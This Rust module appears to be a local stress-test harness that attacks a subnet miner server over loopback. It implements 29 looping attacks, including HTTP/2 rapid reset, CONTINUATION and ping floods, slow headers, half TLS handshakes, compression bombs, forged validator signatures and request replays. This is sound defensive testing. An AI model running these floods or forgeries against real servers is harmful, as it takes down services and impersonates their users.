//! What attackers do: each attack goes on until it is dropped.

use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::time::Duration;

use anyhow::Context as _;
use bytes::Bytes;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;
use weighhouse_proto::method::{DESCRIBE, MODEL_INFER};
use weighhouse_seams::TlsPin;
use weighhouse_types::Hotkey;
use weighhouse_wallet::btauth::{Signer, header};

use super::frames::{
    self, ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, frame, preface, request,
};

const WINDOW: u32 = 65_535;
/// Frames that are written at a time.
const BATCH: usize = 1_000;
/// The first byte of a record of a handshake.
const TLS_HANDSHAKE: u8 = 0x16;
/// After a connection was refused or cut.
const REST: Duration = Duration::from_millis(20);

/// Whom to attack, and with what.
#[derive(Clone)]
pub(super) struct Means {
    pub(super) miner: SocketAddr,
    pub(super) hotkey: Hotkey,
    /// The miner's key of TLS.
    pub(super) pin: TlsPin,
    /// A validator whose name is used without its key.
    pub(super) victim: Hotkey,
    /// A validator that turned against the miner.
    pub(super) traitor: Arc<Signer>,
    /// Has no place in the subnet.
    pub(super) stranger: Arc<Signer>,
    /// A whole request's framed body.
    pub(super) body: Bytes,
    /// The traitor's headers for it, signed once.
    pub(super) replayed: Arc<Vec<(&'static str, String)>>,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Attack {
    BodiesThatNeverCome,
    BodiesThatTrickle,
    Frames(u8, u8),
    EmptyData,
    RapidReset,
    /// Pings between headers that are ignored, or that each open a stream.
    PaidFor,
    Continuation,
    SlowHeaders,
    HalfHandshakes,
    /// The beginning of a handshake of TLS, and nothing more.
    HalfTls,
    /// Whole handshakes, and nothing more.
    TlsHandshakes,
    /// What begins like TLS.
    TlsJunk,
    IdleConnections,
    DeclaredGibibyte,
    CompressedBomb,
    LargeUnsigned,
    JunkSignatures,
    Strangers,
    MutatedHeaders,
    Replays,
    UnreadStreams,
    UnreadSocket,
    Overload,
}

/// Each attack with its name, and from how many addresses and connections it comes.
pub(super) const ALL: [(&str, Attack, u8, usize); 29] = [
    ("bodies that never come", Attack::BodiesThatNeverCome, 1, 5),
    ("bodies that never come, from 16 addresses", Attack::BodiesThatNeverCome, 16, 5),
    ("bodies that trickle", Attack::BodiesThatTrickle, 4, 4),
    ("pings", Attack::Frames(PING, 0), 1, 4),
    ("answers to pings that nobody sent", Attack::Frames(PING, ACK), 1, 4),
    ("settings", Attack::Frames(SETTINGS, 0), 1, 4),
    ("priorities", Attack::Frames(PRIORITY, 0), 1, 4),
    ("windows", Attack::Frames(WINDOW_UPDATE, 0), 1, 4),
    ("unknown frames", Attack::Frames(0xbe, 0), 1, 4),
    ("empty pieces of a body", Attack::EmptyData, 1, 4),
    ("rapid reset", Attack::RapidReset, 1, 4),
    ("pings between headers of one stream", Attack::PaidFor, 1, 4),
    ("continuations without end", Attack::Continuation, 1, 4),
    ("slow headers", Attack::SlowHeaders, 4, 16),
    ("half handshakes", Attack::HalfHandshakes, 64, 16),
    ("handshakes of TLS", Attack::TlsHandshakes, 4, 4),
    ("junk that begins like TLS", Attack::TlsJunk, 4, 4),
    ("idle connections", Attack::IdleConnections, 64, 16),
    ("lengths of 1 GiB", Attack::DeclaredGibibyte, 1, 4),
    ("compressed bombs", Attack::CompressedBomb, 1, 4),
    ("unsigned requests of 4 MiB", Attack::LargeUnsigned, 4, 4),
    ("signatures that are junk", Attack::JunkSignatures, 2, 4),
    ("signed by strangers", Attack::Strangers, 2, 4),
    ("every header of a signature mutated", Attack::MutatedHeaders, 2, 4),
    ("one request again and again", Attack::Replays, 2, 4),
    ("a validator that asks far more often than it may", Attack::Overload, 1, 2),
    ("a validator that reads no stream", Attack::UnreadStreams, 2, 8),
    ("a validator that reads no socket", Attack::UnreadSocket, 2, 8),
    ("half handshakes of TLS", Attack::HalfTls, 64, 16),
];

/// Begins an attack; it ends with what is returned.
pub(super) fn begin(attack: Attack, addresses: u8, connections: usize, means: &Means) -> JoinSet<()> {
    let mut running = JoinSet::new();
    for address in 0..addresses {
        for _ in 0..connections {
            let means = means.clone();
            running.spawn(async move {
                loop {
                    // Cut or refused: as an attacker would, it comes back.
                    let _ = once(attack, Ipv4Addr::new(127, 0, 1, address + 1), &means).await;
                    tokio::time::sleep(REST).await;
                }
            });
        }
    }
    running
}

async fn connect(from: Ipv4Addr, means: &Means) -> anyhow::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind((from, 0).into())?;
    let stream = socket.connect(means.miner).await?;
    stream.set_nodelay(true)?;
    Ok(stream)
}

/// Claims in a validator's name, fresh, under a signature that is none.
fn claims(means: &Means) -> Vec<(&'static str, String)> {
    let mut claims = means.stranger.headers("POST", MODEL_INFER, &means.body, Some(&means.hotkey));
    for (name, value) in &mut claims {
        match *name {
            header::HOTKEY => *value = means.victim.to_string(),
            header::SIGNATURE => *value = format!("0x{}", "5a".repeat(64)),
            _ => {}
        }
    }
    claims
}

fn open(stream: u32, flags: u8, path: &str, headers: &[(&str, String)]) -> Vec<u8> {
    frame(HEADERS, END_HEADERS | flags, stream, &request(path, headers))
}

/// A whole signed request.
fn signed(stream: u32, by: &Signer, means: &Means) -> Vec<u8> {
    let headers = by.headers("POST", MODEL_INFER, &means.body, Some(&means.hotkey));
    [open(stream, 0, MODEL_INFER, &headers), frame(DATA, END_STREAM, stream, &means.body)].concat()
}

/// Stream numbers of a client.
fn streams() -> impl Iterator<Item = u32> {
    (1..1 << 30).step_by(2)
}

/// One connection's part.
async fn once(attack: Attack, from: Ipv4Addr, means: &Means) -> anyhow::Result<()> {
    let mut socket = connect(from, means).await?;
    match attack {
        Attack::HalfHandshakes => return wait(socket).await,
        Attack::HalfTls => {
            socket.write_all(&[TLS_HANDSHAKE, 3, 1, 2, 0, 1, 0]).await?;
            return wait(socket).await;
        }
        Attack::TlsHandshakes => {
            return means.pin.secure(Box::new(socket)).await.map(drop).map_err(Into::into);
        }
        Attack::TlsJunk => loop {
            socket.write_all(&[&[TLS_HANDSHAKE, 3, 3, 0x40, 0][..], &[0x5a; 0x4000]].concat()).await?;
        },
        Attack::UnreadSocket => return write_alone(socket, means).await,
        Attack::SlowHeaders => return dawdle(socket).await,
        _ => {}
    }
    let window = if attack == Attack::UnreadStreams { 0 } else { WINDOW };
    socket.write_all(&preface(window)).await?;
    let (reading, mut writing) = socket.into_split();
    let mut drain = JoinSet::new();
    drain.spawn(async move {
        let (mut reading, mut buffer) = (reading, [0; 16 << 10]);
        while reading.read(&mut buffer).await.is_ok_and(|read| read > 0) {}
    });
    let writes = async {
        match attack {
            Attack::IdleConnections => std::future::pending::<()>().await,
            Attack::Frames(kind, flags) => {
                let flood = control(kind, flags).repeat(BATCH);
                loop {
                    writing.write_all(&flood).await?;
                }
            }
            Attack::EmptyData => {
                writing.write_all(&open(1, 0, MODEL_INFER, &claims(means))).await?;
                let flood = frame(DATA, 0, 1, &[]).repeat(BATCH);
                loop {
                    writing.write_all(&flood).await?;
                }
            }
            Attack::PaidFor => {
                writing.write_all(&open(1, 0, MODEL_INFER, &[])).await?;
                let flood = [frame(HEADERS, END_HEADERS, 1, &[0x82]), control(PING, 0).repeat(8)].concat();
                loop {
                    writing.write_all(&flood.repeat(BATCH / 8)).await?;
                }
            }
            Attack::Continuation => {
                writing.write_all(&frame(HEADERS, 0, 1, &request(MODEL_INFER, &claims(means)))).await?;
                let more = frame(CONTINUATION, 0, 1, &frames::block(&[("x-more", &"y".repeat(1_000))]));
                loop {
                    writing.write_all(&more).await?;
                }
            }
            _ => {
                for stream in streams() {
                    writing.write_all(&requests(attack, stream, means)?).await?;
                    if let Some(rest) = pace(attack) {
                        tokio::time::sleep(rest).await;
                    }
                }
            }
        }
        anyhow::Ok(())
    };
    tokio::select! {
        written = writes => written,
        _ = drain.join_next() => Ok(()),
    }
}

/// Asks and never reads: the library would stop at the connection's window, and this one is told that it is large.
async fn write_alone(mut socket: TcpStream, means: &Means) -> anyhow::Result<()> {
    socket.write_all(&preface(1 << 30)).await?;
    socket.write_all(&frame(WINDOW_UPDATE, 0, 0, &(1_u32 << 30).to_be_bytes())).await?;
    for stream in streams() {
        socket.write_all(&signed(stream, &means.traitor, means)).await?;
    }
    Ok(())
}

/// A byte now and then.
async fn dawdle(mut socket: TcpStream) -> anyhow::Result<()> {
    for byte in [preface(WINDOW), frame(HEADERS, 0, 1, &[0; 1_000])].concat() {
        socket.write_all(&[byte]).await?;
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    Ok(())
}

/// Between one request and the next, where an attack isn't as fast as it can be.
fn pace(attack: Attack) -> Option<Duration> {
    match attack {
        Attack::BodiesThatNeverCome | Attack::BodiesThatTrickle => Some(Duration::from_millis(10)),
        Attack::UnreadStreams => Some(Duration::from_millis(2)),
        _ => None,
    }
}

fn control(kind: u8, flags: u8) -> Vec<u8> {
    match kind {
        PING => frame(PING, flags, 0, &[7; 8]),
        PRIORITY => frame(PRIORITY, flags, 3, &[0, 0, 0, 0, 1]),
        // One more byte each: a thousand a batch overflow nothing for a while.
        WINDOW_UPDATE => frame(WINDOW_UPDATE, flags, 0, &1_u32.to_be_bytes()),
        other => frame(other, flags, 0, &[]),
    }
}

/// The frames of one request of an attack.
fn requests(attack: Attack, stream: u32, means: &Means) -> anyhow::Result<Vec<u8>> {
    let whole = |headers: &[(&str, String)], body: &[u8]| {
        [open(stream, 0, MODEL_INFER, headers), frame(DATA, END_STREAM, stream, body)].concat()
    };
    Ok(match attack {
        Attack::BodiesThatNeverCome => open(stream, 0, MODEL_INFER, &claims(means)),
        Attack::BodiesThatTrickle => {
            let part = means.body.get(..means.body.len() / 2).context("a body")?;
            [open(stream, 0, MODEL_INFER, &claims(means)), frame(DATA, 0, stream, part)].concat()
        }
        Attack::RapidReset => {
            let reset = frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes());
            [open(stream, 0, MODEL_INFER, &claims(means)), reset].concat()
        }
        Attack::DeclaredGibibyte => whole(&claims(means), &[0, 0x40, 0, 0, 0, 1]),
        Attack::CompressedBomb => {
            let mut claims = claims(means);
            claims.push(("grpc-encoding", "gzip".to_owned()));
            whole(&claims, &[&[1, 0, 0, 0x20, 0][..], &[0x1f; 0x2000]].concat())
        }
        Attack::LargeUnsigned => {
            // In frames of the largest size that every server takes.
            let piece = frame(DATA, 0, stream, &[0; 16 << 10]);
            [open(stream, 0, DESCRIBE, &[]), piece.repeat(256)].concat()
        }
        Attack::JunkSignatures => whole(&claims(means), &means.body),
        Attack::Replays => whole(&means.replayed, &means.body),
        Attack::Strangers => signed(stream, &means.stranger, means),
        Attack::MutatedHeaders => {
            let mut headers = means.traitor.headers("POST", MODEL_INFER, &means.body, Some(&means.hotkey));
            let at = stream as usize / 2;
            let (_, value) = &mut headers[at % 5];
            mutate(value, at / 5);
            whole(&headers, &means.body)
        }
        Attack::UnreadStreams | Attack::Overload => signed(stream, &means.traitor, means),
        other => anyhow::bail!("{other:?} has no requests"),
    })
}

/// One of many ways to spoil a header.
fn mutate(value: &mut String, how: usize) {
    match how % 6 {
        0 => value.clear(),
        1 => value.push('0'),
        2 => drop(value.pop()),
        3 => *value = value.to_uppercase(),
        4 => *value = value.repeat(200),
        _ => value.insert(value.len() / 2, ' '),
    }
}

/// Until the other end has enough.
async fn wait(mut socket: TcpStream) -> anyhow::Result<()> {
    let mut buffer = [0; 1_024];
    while socket.read(&mut buffer).await? > 0 {}
    Ok(())
}
